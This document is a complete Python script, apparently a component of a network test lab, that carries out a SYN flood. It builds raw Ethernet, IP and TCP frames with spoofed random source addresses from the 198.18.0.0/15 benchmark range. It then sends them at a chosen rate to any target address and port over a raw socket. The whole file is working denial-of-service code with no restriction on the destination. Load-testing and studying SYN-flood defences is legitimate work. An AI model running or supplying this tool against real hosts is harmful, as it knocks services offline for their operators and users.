"""A SYN flood: a program of its own, run in a client's namespace; needs nothing but the standard library.

usage: flood_program.py INTERFACE SOURCE-MAC DESTINATION-MAC ADDRESS PORT RATE SECONDS

Sends SYNs from random addresses of 198.18.0.0/15 (RFC 2544, for benchmarks) that will never answer, RATE a second, evenly in
milliseconds, and prints how many were sent.
"""

import random
import socket
import struct
import sys
import time

SOURCES = (0xC6120000, 0xC613FFFF)
TICK = 0.001


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071) of an even number of bytes."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(ethernet: bytes, destination: int, port: int) -> bytes:
    """One frame with a SYN of a random source."""
    source, source_port, sequence = random.randint(*SOURCES), random.randint(1024, 65535), random.getrandbits(32)
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 44, random.getrandbits(16), 0, 64, 6, 0, source, destination)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    tcp = struct.pack("!HHIIBBHHHHH", source_port, port, sequence, 0, 6 << 4, 2, 64240, 0, 0, 0x0204, 1460)
    tcp = tcp[:16] + struct.pack("!H", checksum(struct.pack("!IIHH", source, destination, 6, len(tcp)) + tcp)) + tcp[18:]
    return ethernet + ip + tcp


def main() -> None:
    interface, here, there, address, port, rate, seconds = sys.argv[1:8]
    ethernet = bytes.fromhex(there.replace(":", "") + here.replace(":", "") + "0800")
    destination = struct.unpack("!I", socket.inet_aton(address))[0]
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.bind((interface, 0))
        while (now := time.monotonic() - began) < float(seconds):
            while sent < now * float(rate):
                sock.send(syn(ethernet, destination, int(port)))
                sent += 1
            time.sleep(TICK)
    print(sent)


if __name__ == "__main__":
    main()
